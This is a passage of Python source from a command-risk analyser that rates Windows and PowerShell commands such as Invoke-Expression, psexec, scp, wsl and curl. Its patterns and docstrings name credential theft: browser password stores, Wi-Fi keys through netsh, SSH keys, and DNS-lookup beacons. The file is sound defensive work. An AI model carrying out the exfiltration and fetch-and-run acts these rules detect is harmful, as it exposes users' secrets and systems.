    if previous is not None and _DOWNLOAD.search(previous.text):
        return  # `iwr ... | iex` is reported for the whole line
    operands = operands_of(st)
    spelt = [st.text, previous.text if previous is not None else ""]
    if any(char_codes.POWERSHELL_CODES.search(text) for text in spelt):
        reason = "runs PowerShell code spelt in character codes, hidden (Invoke-Expression)"
        ctx.add(CRITICAL, reason, st.text)
    if any(o.startswith(("$", "(", "[", "@")) for o in operands) or not operands:
        reason = "runs PowerShell code that is only known when it runs (Invoke-Expression)"
        ctx.add(HIGH, reason, st.text)
        for operand in operands:
            inner = _block(operand)
            if inner:
                analyse(inner, ctx, 1)
    else:
        analyse(" ".join(operands), ctx, 1)


def _start_process(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """Start-Process PROGRAM -ArgumentList ARGS [-Verb RunAs]: rated by what it starts."""
    program = ""
    arguments: list[str] = []
    args = list(st.args)
    index = 0
    while index < len(args):
        arg = args[index]
        given = arg.lower().lstrip("-").split(":", 1)[0]
        if arg.startswith("-") and (_prefix(given, "argumentlist", 1) or given == "args"):
            arguments.append(args[index + 1] if index + 1 < len(args) else "")
            index += 2
        elif arg.startswith("-") and _prefix(given, "filepath", 2):
            program = args[index + 1] if index + 1 < len(args) else ""
            index += 2
        elif arg.startswith("-"):
            index += 1 if given in _START_SWITCHES else 2
        elif program:  # the second positional parameter is -ArgumentList
            arguments.append(arg)
            index += 1
        else:
            program = arg
            index += 1
    if "runas" in st.text.lower():
        ctx.add(MODERATE, "starts a program as administrator", st.text)
    ctx.add(MODERATE, f"starts a program ({st.words[0]})", st.text)
    if program:
        analyse(" ".join([program, *arguments]), ctx, 1)


_SENDING_METHODS = frozenset("post put delete patch".split())
_CURL_SENDS = lazy_pattern(
    r"(?i)\s(-d|-F|-T|--data\S*|--form\S*|--upload-file|-X\s*(post|put|delete|patch))\b"
)
_CURL_SAVES = lazy_pattern(r"\s(-o|-O|--output|--remote-name|-OutFile)(\s|=|$)")


def _web(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """iwr/irm/curl.exe/wget: a plain GET only reads (as `curl URL` does); saving a file or
    sending data changes something. Fetched code that is run is judged for the whole line."""
    params = params_of(st)
    method = next((v for n, v in params if n == "method" or n == "m"), "")
    sends = method in _SENDING_METHODS or any(
        n.startswith(("body", "infile", "form")) for n, _ in params
    )
    saves = any(_prefix(n, "outfile") for n, _ in params)
    if st.name in ("curl", "wget"):
        sends = sends or bool(_CURL_SENDS.search(" " + st.text))
        saves = saves or bool(_CURL_SAVES.search(" " + st.text))
    if sends:
        ctx.add(MODERATE, f"sends data to a server ({st.words[0]})", st.text)
    elif saves and not windows_writes.saved_file(st, ctx):
        ctx.add(MODERATE, f"downloads a file ({st.words[0]})", st.text)


_WSL_VALUES = frozenset("-d --distribution -u --user --cd --distribution-id".split())
_WSL_READS = frozenset("-l --list --status --version -v --help".split())


def _wsl(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """`wsl --unregister NAME` deletes a Linux system and all its files; `wsl [-d X] CMD`
    runs CMD in Linux, read as the shell command it is."""
    args = list(st.args)
    lowered = [a.lower() for a in args]
    if "--unregister" in lowered:
        name = args[lowered.index("--unregister") + 1 :][:1] or ["a distribution"]
        ctx.add(CRITICAL, f"deletes the WSL system {name[0]} and every file in it", st.text)
        return
    index = 0
    while index < len(args) and args[index].startswith("-"):
        if lowered[index] in ("-e", "--exec", "--"):
            index += 1
            break
        if lowered[index] in _WSL_READS:
            return
        index += 2 if lowered[index] in _WSL_VALUES else 1
    if index >= len(args):
        ctx.add(MODERATE, "starts or manages WSL", st.text)
        return
    from tui.core.safety.analyser import Analyser  # the POSIX reading imports these rules

    Analyser(ctx).analyse_carried(_posix_line(args[index:]))


def _posix_line(words: list[str]) -> str:
    """The words as a shell line: one that held spaces was quoted (`bash -c "rm -rf /x"`)."""
    return " ".join(shlex.quote(word) if re.search(r"\s", word) else word for word in words)


def _invoke_sqlcmd(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """`Invoke-Sqlcmd -Query SQL -ServerInstance X`: the SQL, rated as any database client's."""
    from tui.core.safety.rules.databases import rate_sql  # the database rules import these

    args = list(st.args)
    query = next((args[i + 1] for i, a in enumerate(args[:-1]) if a.lower() == "-query"), None)
    if query is None:
        ctx.add(MODERATE, "runs SQL against a database (Invoke-Sqlcmd)", st.text)
        return
    command = Command(tuple(literal(word) for word in st.words), st.text)
    rate_sql(query.strip("'\""), command, ctx, st.words[0])


def _runas(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """`runas /user:NAME "PROGRAM ARGS"`: as `su`, rated by what it runs."""
    program = [a for a in st.args if not a.startswith("/")]
    ctx.add(MODERATE, "runs a program as another user (runas)", st.text)
    if program:
        analyse(" ".join(program), ctx, 1)


_PSEXEC_VALUES = frozenset("-u -p -c -f -w -n -h -l -v -a -r -csrc".split())


def _psexec(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """`psexec [\\\\host] [-u USER -p PASSWORD] [-s] PROGRAM ARGS`: rated by what it runs; a
    password typed into the line is in the open."""
    args = list(st.args)
    index = 0
    while index < len(args) and (args[index].startswith(("-", "/", "\\\\")) or args[index] == "@"):
        arg = args[index].lower()
        if arg == "-p" and index + 1 < len(args) and not args[index + 1].startswith("$"):
            ctx.add(HIGH, "types a password into the command line (psexec -p)", st.text)
        index += 2 if arg in _PSEXEC_VALUES else 1
    remote = any(a.startswith("\\\\") for a in args[:index])
    if remote and {"-s", "/s"} & {a.lower() for a in args[:index]}:
        ctx.add(HIGH, "runs a program as SYSTEM on another machine (psexec -s)", st.text)
    ctx.add(MODERATE, "runs a program as another user or on another machine (psexec)", st.text)
    if args[index:]:
        analyse(" ".join(args[index:]), ctx, 1)


def _forfiles(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """`forfiles /p DIR [/s] [/m MASK] [/d -N] /c "cmd /c del @path"`: the command runs on
    every file that matches; an age (/d) or a throw-away mask (*.log) narrows it."""
    values: dict[str, str] = {}
    args = list(st.args)
    for index, arg in enumerate(args[:-1]):
        if arg.lower() in ("/p", "/m", "/d", "/c"):
            values[arg.lower()] = args[index + 1]
    command = values.get("/c", "")
    if not command:
        return  # it only lists the files
    folder = values.get("/p", ".").rstrip("\\")
    mask = values.get("/m", "*")
    each = f"{folder}\\{mask}"
    command = re.sub(r"(?i)@(path|file|fname|relpath)", lambda _: each, command)
    if "/s" in flags_of(st):  # every folder below too: as `del /s`
        command = _FORFILES_DELETE.sub(r"\g<0> /s", command)
    if _BACKUPS.search(folder) and _FORFILES_DELETE.search(command):
        ctx.add(HIGH, f"deletes backups under {folder}", st.text)
        return
    if "/d" in values or (mask != "*" and _DISPOSABLE.fullmatch(mask)):  # old or throw-away
        broad = _broad_folder([folder or "\\"]) if "/s" in flags_of(st) else None
        if broad is not None and _FORFILES_DELETE.search(command):
            reason = f"deletes every {mask} file under {broad}: other programs' files too"
            ctx.add(HIGH, reason, st.text)
        elif _changes(command):
            ctx.add(MODERATE, f"runs a command on old or matching files under {folder}", st.text)
        return
    analyse(command, ctx, 1)


_FORFILES_DELETE = lazy_pattern(r"(?i)\b(del|erase)\b")
_BACKUPS = lazy_pattern(r"(?i)backup")


def _changes(command: str) -> bool:
    """Whether a command, alone, is rated above safe."""
    scratch = Context()
    analyse(command, scratch, 1)
    return any(f.level > RiskLevel.SAFE for f in scratch.findings)


def _cmd_start(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """cmd's `start [/b] [/min] ["title"] PROGRAM ARGS`, or PowerShell's `start` alias."""
    if any(_start_parameter(a) for a in st.args):
        _start_process(st, ctx, previous)
        return
    args = list(st.args)
    index = 0
    while index < len(args) and args[index].startswith("/"):
        index += 2 if args[index].lower() == "/d" else 1
    ctx.add(MODERATE, f"starts a program ({st.words[0]})", st.text)
    if args[index:]:
        analyse(" ".join(args[index:]), ctx, 1)


def _start_parameter(arg: str) -> bool:
    """`-Verb`, `-ArgumentList`, `-FilePath`, `-Wait`, ...: Start-Process's own parameters
    (three letters at least, so a program's `-w hidden` is not taken for one)."""
    given = arg.lower().lstrip("-").split(":", 1)[0]
    names = (*_START_SWITCHES, "verb", "argumentlist", "filepath", "windowstyle", "workingdir")
    return arg.startswith("-") and len(given) >= 3 and any(n.startswith(given) for n in names)


_START_SWITCHES = frozenset("wait nonewwindow passthru usenewenvironment loaduserprofile".split())


def _ssh(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """`ssh HOST "powershell -c ..."`: the remote command is read like a local one."""
    args = list(st.args)
    index = 0
    while index < len(args) and args[index].startswith("-"):
        index += 2 if args[index] in _SSH_VALUES else 1
    remote = args[index + 1 :]
    ctx.add(MODERATE, "connects to another machine (ssh)", st.text)
    if remote:
        analyse(" ".join(remote), ctx, 1)


_SSH_VALUES = frozenset("-p -i -l -o -F -J -L -R -D -b -c -E -m -S -W -w -B -e -O -Q".split())


def _scp(st: Statement, ctx: Context, previous: Statement | None) -> None:
    """`scp $env:USERPROFILE\\.ssh\\id_rsa host:`: what is copied to another machine."""
    operands = operands_of(st, frozenset({"-p", "-i", "-o", "-f", "-j", "-l", "-s"}))
    drive = re.match(r"[A-Za-z]:[\\/]", operands[-1]) if operands else None  # C:\\ is local
    if len(operands) >= 2 and flow.remote_target(operands[-1]) and drive is None:
        for source in operands[:-1]:
            what = flow.secret_path(posix_path(source).replace("/home/*", "~"))
            if what:
                ctx.add(CRITICAL, f"copies {what} to another machine ({st.words[0]})", st.text)
                return
    ctx.add(MODERATE, f"copies files to or from another machine ({st.words[0]})", st.text)


_BROWSER_SECRETS = lazy_pattern(
    r"\\(login data|cookies|web data|key4\.db|logins\.json|cookies\.sqlite)\b|\.kdbx\b"
)


def _exfiltration(text: str, sts: list[Statement], ctx: Context) -> None:
    lower = text.lower()
    _lookup_beacon(sts, ctx)
    in_request = "$(" in lower and _WEB_CALL.search(lower) is not None  # data in the URL
    sending = (
        in_request
        or any(
            s in lower
            for s in (
                "-method post",
                "-method put",
                "-infile",
                "uploadfile",
                "uploadstring",
                "send-mailmessage",
                "-body",
                "ftp://",
                "uploaddata",
                "-f ",
                "--form",
                "-t ",
                "--upload-file",
                "--data-binary",
                "-d @",
                "-transfertype upload",
            )
        )
        or bool(_TO_OUTSIDE_SHARE.search(lower))
    )
    if not sending:
        return
    if "get-clipboard" in lower:
        ctx.add(HIGH, "sends what is on the clipboard (often a password) to another machine", text)
        return
    if re.search(r"\bnetsh(\.exe)?\s+wlan\s+show\s+profiles?\b.*\bkey=clear\b", lower):
        ctx.add(CRITICAL, "sends your saved Wi-Fi passwords to another machine", text)
        return
    if _BROWSER_SECRETS.search(lower):
        ctx.add(CRITICAL, "sends saved browser passwords or cookies to another machine", text)
        return
    if re.search(r"(get-childitem|gci|dir|ls)\s+env:|getenvironmentvariables\(", lower):
        ctx.add(
            CRITICAL, "sends your environment variables (tokens and keys) to another machine", text
        )
        return
    for st in sts:
        inside = [w for word in st.args for w in (_block(word) or "").split()]
        for word in (*st.args, *inside):  # `-Body (Get-Content PATH -Raw)`: PATH is sent
            word = word.split("=@", 1)[-1].lstrip("@")  # curl.exe -F "f=@%USERPROFILE%\..."
            what = flow.secret_path(posix_path(word.strip("()'\"")).replace("/home/*", "~"))
            if what is None and (".ssh" in word.lower() or "credentials" in word.lower()):
                what = "keys or credentials"
            if what is None and _HASH_FILES.search(word):
                what = "the machine's password hashes"
            if what:
                ctx.add(CRITICAL, f"sends {what} to another machine", text)
                return


# Text written to a share on a host named by a domain (`| Out-File \\\\x.example\\s\\f`).
_TO_OUTSIDE_SHARE = lazy_pattern(
    r"(out-file|set-content|add-content|>>?)\s*(-\w+\s+)?['\"]?\\\\[\w-]+\.[\w.-]+\\"
)
_WEB_CALL = lazy_pattern(r"invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|\bcurl(\.exe)?\b")
_LOOKUPS = frozenset("resolve-dnsname nslookup ping ping.exe nslookup.exe".split())
# `%COMPUTERNAME%`, `$env:USERNAME`: a value of this machine spelt into a word.
_MACHINE_VALUE = lazy_pattern(r"(?i)%\w+%|\$env:\w+|\$\(")


def _lookup_beacon(sts: list[Statement], ctx: Context) -> None:
    """`nslookup %COMPUTERNAME%.x.example`: the name looked up carries this machine's facts to
    whoever runs that domain's name server."""
    for st in sts:
        if st.name not in _LOOKUPS:
            continue
        for word in st.args:
            facts = _MACHINE_VALUE.findall(word)
            if not facts or not re.search(r"[%)\w]\.[a-z0-9-]+\.[a-z]{2,}", word, re.I):
                continue
            if len(facts) >= 2:
                reason = "sends facts about this machine away, hidden in a name lookup"
                ctx.add(HIGH, reason, st.text)
            else:
                ctx.add(MODERATE, "puts a value of this machine into the name it looks up", st.text)
            return


Handler = Callable[[Statement, Context, Statement | None], None]
_HANDLERS: dict[str, Handler] = {
    **SYSTEM_HANDLERS,
    **dict.fromkeys(
        "remove-item ri rm del erase rd rmdir rmdir.exe remove-childitem".split(), _delete
    ),
    "reg": _reg,
    "sfc": checks.system_file_check,
    **dict.fromkeys(
        "set-itemproperty new-itemproperty remove-itemproperty sp".split(), _registry_cmdlet
    ),
    "format": _format,
    **dict.fromkeys(
        "format-volume clear-disk initialize-disk remove-partition reset-physicaldisk".split(),
        _disk_cmdlet,
    ),
    "diskpart": _diskpart,
    **dict.fromkeys(windows_admin.REMOVERS, _remove_accounts),
    "setx": windows_admin.setx,
    "auditpol": windows_admin.auditpol,
    **dict.fromkeys("icacls cacls takeown".split(), _permissions),
    **dict.fromkeys("set-content clear-content out-file add-content ac".split(), _write),
    **dict.fromkeys("copy-item move-item copy move xcopy robocopy cpi mi cp mv".split(), _copy),
    **dict.fromkeys("powershell pwsh cmd cmd.exe".split(), _encoded),
    **dict.fromkeys("iex invoke-expression".split(), _invoke),
    "start-bitstransfer": windows_writes.bits_transfer,
    **dict.fromkeys("start-process saps".split(), _start_process),
    "start": _cmd_start,
    "forfiles": _forfiles,
    "wsl": _wsl,
    **dict.fromkeys("iwr irm invoke-webrequest invoke-restmethod curl wget".split(), _web),
    "runas": _runas,
    "invoke-sqlcmd": _invoke_sqlcmd,
    **dict.fromkeys("psexec psexec64".split(), _psexec),
    **dict.fromkeys("ssh ssh.exe".split(), _ssh),
    **dict.fromkeys("scp scp.exe sftp sftp.exe".split(), _scp),
    **dict.fromkeys("sdelete sdelete64".split(), _sdelete),
    **windows_vital.HANDLERS,
    **windows_procs.HANDLERS,
    **windows_features.HANDLERS,
    **windows_net.HANDLERS,
    **dict.fromkeys("new-item ni".split(), _new_item),
    **dict.fromkeys("wmic invoke-wmimethod invoke-cimmethod".split(), _wmi_create),
    **dict.fromkeys("rename-item rni ren rename".split(), _rename),
    **windows_shares.HANDLERS,
    **windows_upkeep.HANDLERS,
    **windows_servers.HANDLERS,
    **windows_programs.HANDLERS,
}
